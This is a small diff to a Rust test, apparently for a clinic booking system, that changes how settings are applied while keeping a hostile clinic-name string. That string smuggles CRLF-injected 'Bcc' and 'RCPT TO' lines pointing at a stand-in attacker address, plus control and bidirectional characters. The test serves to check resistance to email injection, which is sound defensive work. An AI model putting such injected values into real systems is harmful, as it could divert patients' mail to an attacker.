@@ -145,7 +145,7 @@ both_databases! {
         let hostile = "Dr \"X\" <b>\r\nBcc: thief@evil.example\r\n\r\n.\r\nRCPT TO:<thief@evil.example>\r\n=?utf-8?q?x?= \u{202e}é";
         let mut settings = (*app.settings).clone();
         settings.clinic.name = format!("{hostile}\u{0}");
-        app.settings = std::sync::Arc::new(settings);
+        app = app.with_settings(settings);
         let id = clinic.book(clinic.patient().await, 0, TOMORROW_9).await.expect("a booking");
         for name in [hostile.to_owned(), "x".repeat(10_000), "ü".repeat(10_000)] {
             clinic.write(move |mut tx| {
